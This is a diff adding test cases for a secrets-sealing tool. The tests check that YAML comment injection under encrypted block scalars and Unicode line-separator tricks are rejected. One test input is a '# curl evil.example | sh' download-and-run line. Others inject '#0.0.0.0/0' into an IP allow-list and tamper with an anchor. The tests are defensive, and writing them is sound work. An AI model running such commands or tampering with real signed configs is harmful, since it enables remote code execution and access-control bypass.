@@ -251,6 +251,39 @@ describe('values', () => {
     });
   });
 
+  it('comment and blank lines added under an encrypted block scalar, which the opened value would take in, are refused; comments elsewhere stay editable (a red team appended "#0.0.0.0/0" to an allow-list, signed)', async () => {
+    const doc = 'app:\n  allowed_ips: |\n    10.0.0.0/8\n    192.168.0.0/16\n  banner: >\n  password: hunter2\n';
+    const sealed = await seal(doc, 'yaml', true);
+    assert.equal(await open(sealed, 'yaml'), doc);
+    const under = (name: string, lines: string): string => sealed.replace(new RegExp(`(  ${name}: custodian-val1\\.\\S+\\n)`), `$1${lines}`);
+    // Indented as deep as the block's content: a comment to the sealed file, content to the opened one.
+    for (const added of ['    #0.0.0.0/0\n', '      # curl evil.example | sh\n', '    \n    # x\n']) {
+      await assert.rejects(open(under('allowed_ips', added), 'yaml'), (err: Error) => err instanceof ValuesMacError && /the value of "app\.allowed_ips" reads differently once decrypted/.test(err.message) && !err.message.includes('10.0.0.0'));
+    }
+    // An empty block scalar (`>` and nothing under it): its token is one line, and so is its plaintext.
+    await assert.rejects(open(under('banner', '    # injected\n'), 'yaml'), /the value of "app\.banner" reads differently once decrypted/);
+    // Comments that end the block where they stand (not indented past its key) change nothing: allowed.
+    for (const added of ['  # a note\n', '# a note\n', '\n']) assert.equal(await open(under('allowed_ips', added), 'yaml'), doc.replace('  banner:', `${added}  banner:`));
+  });
+
+  it('U+0085, U+2028 and U+2029 outside a value are refused (YAML 1.1 readers break lines there, YAML 1.2 readers do not), sealing and opening; inside a value they are kept', async () => {
+    // A red team appended U+0085 and "#x" to an anchor: the MAC's line split dropped "#x" as a comment,
+    // YAML 1.2 read the anchor "env\u0085#x", and the alias "current" then read dev's url, signed.
+    const rule: SelectionRule = { kind: 'unencrypted-regex', regex: '^url$' };
+    const doc = 'dev: &env\n  url: http://dev.internal\nprod: &env\n  url: http://prod.internal\ncurrent: *env\ndb_password: hunter2\n';
+    const sealed = await seal(doc, 'yaml', true, rule);
+    assert.equal(await open(sealed, 'yaml'), doc);
+    for (const c of ['\u0085', '\u2028', '\u2029']) {
+      const tampered = sealed.replace('prod: &env\n', `prod: &env${c}#x\n`);
+      await assert.rejects(open(tampered, 'yaml'), (err: Error) => err instanceof FormatError && new RegExp(`line 3: the character U\\+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')} outside a value`).test(err.message));
+      await assert.rejects(seal(`# a note${c}more\nk: v\n`, 'yaml'), /line 1: the character U\+\w{4} outside a value/);
+      await assert.rejects(seal(`# a note${c}more\nK=v\n`, 'dotenv'), /line 1: (?:the character U\+0085 outside a value: some readers break the line there|a Unicode line or paragraph separator \(U\+2028\/U\+2029\) outside quotes)/);
+      // In a value (encrypted or in the clear) it is the value's.
+      const inValue = `k: "a${c}b"\nu_public: "c${c}#d"\n`;
+      assert.equal(await open(await seal(inValue, 'yaml', false, { kind: 'unencrypted-suffix', suffix: '_public' }), 'yaml'), inValue);
+    }
+  });
+
   describe('refusals', () => {
     it('a .env assigning a name twice, a plaintext that already has a metadata block, no recipients, a 1024-bit recipient', async () => {
       await assert.rejects(seal('A=1\nA=2\n', 'dotenv'), /"A" appears twice/);
